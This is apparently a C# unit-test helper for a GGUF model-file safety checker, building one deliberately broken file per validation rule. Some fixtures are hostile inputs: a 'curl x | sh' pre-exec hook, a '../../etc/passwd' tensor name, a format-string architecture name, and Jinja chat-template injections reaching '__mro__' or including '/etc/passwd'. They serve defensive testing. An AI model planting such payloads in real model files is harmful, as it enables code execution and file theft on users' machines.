using System.Text;
using Kandil.Core.Errors.Findings;
using Kandil.Core.Gguf;
using Kandil.Core.Safety;
using Kandil.Tests.Unit.Fakes;

namespace Kandil.Tests.Unit.Core.Safety;

/// <summary>A file for every rule, which breaks that one.</summary>
internal static class RuleExamples
{
    private const uint U8 = 0, U32 = 4, Text = 8, Array = 9;
    private const string Tokens = "tokenizer.ggml.tokens", Template = "tokenizer.chat_template";

    private static readonly GgufBuilder Sound = GgufBuilder.Chain("hello there").Size(new GgufModelSize(64, 1, 64, 4, 4, 0));

    private static readonly string[] SoundTokens = [.. Enumerable.Range(0, 300).Select(i => $"t{i}")];

    private static readonly Dictionary<FindingRule, byte[][]> Files = new()
    {
        [FindingRules.EmptyFile] = One([]),
        [FindingRules.NotGguf] = One("<html>not a model</html>"u8.ToArray()),
        [FindingRules.ByteOrder] = One(new GgufRaw().Version(0x03000000)),
        [FindingRules.Version] = One(new GgufRaw().Version(1)),
        [FindingRules.CutShort] = One(Sound.ToBytes()[..^5000]),
        [FindingRules.TrailingData] = One([.. Sound.ToBytes(), .. new byte[100_000]]),
        [FindingRules.Count] = One(new GgufRaw().ClaimTensors(ulong.MaxValue)),
        [FindingRules.TextLength] = One(new GgufRaw().Key("general.name", Text, ulong.MaxValue).Data(64)),
        [FindingRules.HeaderSize] = [], // takes 256 MB: HeaviestFileTests has it
        [FindingRules.EmptyName] = One(new GgufRaw().Key("", U32, 1u)),
        [FindingRules.DuplicateName] = One(new GgufRaw().Key("twin", U32, 1u).Key("twin", U32, 1u)),
        [FindingRules.Utf8] = One(new GgufRaw().Key("general.name", Text, 2UL, new byte[] { 0xC3, 0x28 }).Data(64)),
        [FindingRules.Nul] = One(Sound.Set("general.name", "sound\0and more")),
        [FindingRules.TokenNul] = One(WithTokens([.. SoundTokens, "t\0", "u"])),
        [FindingRules.ControlCharacter] = One(Sound.Set("general.\u001b[2J", 1u)),
        [FindingRules.ValueType] = One(new GgufRaw().Key("odd", 13, 0u)),
        [FindingRules.NestedArray] = One(new GgufRaw().Key("nest", Array, Array, 1UL, U32, 1UL, 1u)),
        [FindingRules.ArraySize] = One(new GgufRaw().Key("big", Array, U8, 1UL << 62).Data(64)),
        [FindingRules.Alignment] = One(new GgufRaw().Key("general.alignment", U32, 48u)),
        [FindingRules.Dimensions] = One(new GgufRaw().TensorOfDimensions("deep", 5)),
        [FindingRules.Extents] = One(new GgufRaw().Tensor("vast", [1UL << 32, 1UL << 32], 0, 0).Data(32)),
        [FindingRules.TensorType] = One(new GgufRaw().Tensor("old", [32], 4, 0).Data(32)),
        [FindingRules.BlockMultiple] = One(new GgufRaw().Tensor("half", [16], 8, 0).Data(64)),
        [FindingRules.TensorOffset] = One(new GgufRaw().Tensor("askew", [1], 0, 4).Data(32)),
        [FindingRules.TensorOverlap] = One(new GgufRaw().Tensor("one", [8], 0, 0).Tensor("two", [8], 0, 0).Data(64)),
        [FindingRules.SuspiciousKey] = One(Sound.Set("loader.pre_exec_hook", "curl x | sh")),
        [FindingRules.TensorNamePath] = One(new GgufRaw().Tensor("../../etc/passwd", [8], 0, 0).Data(64)),
        [FindingRules.NotAModel] = One(Sound.Set("general.type", "adapter")),
        [FindingRules.ArchitectureName] = One(Sound.Set("general.architecture", "llama %s%s%n")),
        [FindingRules.UnknownArchitecture] = One(Sound.Set("general.architecture", "tomorrow")),
        [FindingRules.MissingKey] = One(Sound.Remove("llama.context_length")),
        [FindingRules.KeyType] = One(Sound.Set("llama.embedding_length", "wide")),
        [FindingRules.NumberRange] = One(Sound.Set("llama.context_length", 0xFFFF_FFF0u)),
        [FindingRules.BlockCount] = One(Sound.Set("llama.block_count", 0u)),
        [FindingRules.Heads] = One(Sound.Set("llama.attention.head_count_kv", 3u)),
        [FindingRules.Experts] = One(Sound.Set("llama.expert_count", 4u).Set("llama.expert_used_count", 9u)),
        [FindingRules.Epsilon] = One(Sound.Set("llama.attention.layer_norm_rms_epsilon", float.NaN)),
        [FindingRules.RopeScaling] = One(Sound.Set("llama.rope.scaling.type", "wild")),
        [FindingRules.WeightType] = One(Stored(Sound, "output.weight", 9)),
        [FindingRules.NoTokenizer] = One(Sound.Remove(Tokens).Remove("tokenizer.ggml.model")),
        [FindingRules.TokenList] = One(Sound.Set(Tokens, GgufArray.Of([1, 2, 3]))),
        [FindingRules.DuplicateToken] = One(WithTokens([.. SoundTokens, "t9"])),
        [FindingRules.TokenLength] = One(WithTokens([.. SoundTokens, new string('a', 5000)])),
        [FindingRules.TokenScores] = One(Sound.Set("tokenizer.ggml.scores", GgufArray.Of([1f, 2f]))),
        [FindingRules.TokenTypes] = One(Sound.Set("tokenizer.ggml.token_type", GgufArray.Of([1f, 2f]))),
        [FindingRules.ByteToken] = One(WithTokens([.. SoundTokens, "<0xGG>"], lastType: 6)),
        [FindingRules.SpecialToken] = One(Sound.Set("tokenizer.ggml.eos_token_id", 4_000_000_000u)),
        [FindingRules.EmbeddingRows] = One(Sound.Set(Tokens, GgufArray.Of(SoundTokens)).Remove("tokenizer.ggml.scores").Remove("tokenizer.ggml.token_type")),
        [FindingRules.ShardCount] = [Shard(0, 3, 3, "a"), Shard(1, 3, 3, "b")],
        [FindingRules.ShardNumber] = [Shard(0, 2, 2, "a"), Shard(0, 2, 2, "b")],
        [FindingRules.ShardTensors] = [Shard(0, 2, 2, "a"), Shard(1, 2, 2, "a")],
        [FindingRules.TemplateType] = One(Sound.Set(Template, 1u)),
        [FindingRules.TemplateSize] = One(Sound.Set(Template, new string('a', 200_000))),
        [FindingRules.TemplateSyntax] = One(Sound.Set(Template, "{% for message in messages %}\n{{ message")),
        [FindingRules.TemplateDepth] = One(Sound.Set(Template, "{{ " + new string('(', 300) + "a" + new string(')', 300) + " }}")),
        [FindingRules.TemplatePrivateName] = One(Sound.Set(Template, "{{ messages\n  .__class__.__mro__ }}")),
        [FindingRules.TemplateAttr] = One(Sound.Set(Template, "{{ messages | attr(name) }}")),
        [FindingRules.TemplateImport] = One(Sound.Set(Template, "{% include '/etc/passwd' %}")),
        [FindingRules.TemplateRange] = One(Sound.Set(Template, "{% for i in range(10 ** 9) %}x{% endfor %}")),
    };

    /// <summary>What is not found in a GGUF's header; the tests of verification have these.</summary>
    private static readonly FindingRule[] OfOtherChecks = [FindingRules.Safetensors, FindingRules.RunsCode, FindingRules.Damaged, FindingRules.LoadTest];

    /// <summary>Every rule that has an example of a GGUF file here.</summary>
    public static IEnumerable<FindingRule> Rules => Files.Where(pair => pair.Value.Length > 0).Select(pair => pair.Key);

    /// <summary>Every rule of the table that nothing here stands for.</summary>
    public static IEnumerable<FindingRule> Missing => FindingRules.All.Where(rule => !Files.ContainsKey(rule) && !OfOtherChecks.Contains(rule));

    /// <summary>What is found in a rule's example.</summary>
    public static ModelFileReport Check(FindingRule rule)
    {
        byte[][] files = Files[rule];
        if (files.Length > 1)
            return ModelFileCheck.Check([.. files.Select((bytes, i) => new ModelFilePart($"model-{i + 1}.gguf", bytes.Length, () => new MemoryStream(bytes)))]);
        using var stream = new MemoryStream(files[0]);
        return ModelFileCheck.Check(stream, stream.Length, "model.gguf");
    }

    private static GgufBuilder WithTokens(string[] tokens, int lastType = 1) => Sound
        .Set(Tokens, GgufArray.Of(tokens))
        .Set("tokenizer.ggml.scores", GgufArray.Of(new float[tokens.Length]))
        .Set("tokenizer.ggml.token_type", GgufArray.Of([.. Enumerable.Repeat(1, tokens.Length - 1), lastType]));

    /// <summary>A model's file that says another element type of a tensor.</summary>
    internal static byte[] Stored(GgufBuilder model, string tensor, uint type)
    {
        byte[] bytes = model.ToBytes();
        byte[] name = [.. BitConverter.GetBytes((long)tensor.Length), .. Encoding.UTF8.GetBytes(tensor)];
        int at = bytes.AsSpan().IndexOf(name) + name.Length;
        at += sizeof(uint) + (sizeof(ulong) * BitConverter.ToInt32(bytes, at));
        BitConverter.TryWriteBytes(bytes.AsSpan(at), type);
        return bytes;
    }

    /// <summary>A part of a split model with one tensor.</summary>
    private static byte[] Shard(int number, int count, int tensors, string tensor)
    {
        var writer = new GgufWriter().Add("split.no", (ushort)number).Add("split.count", (ushort)count).Add("split.tensors.count", tensors);
        writer.AddTensor(tensor, [32], GgmlType.F32);
        using var stream = new MemoryStream();
        writer.WriteTo(stream);
        return stream.ToArray();
    }

    private static byte[][] One(byte[] bytes) => [bytes];

    private static byte[][] One(GgufRaw raw) => [raw.ToBytes()];

    private static byte[][] One(GgufBuilder builder) => [builder.ToBytes()];
}
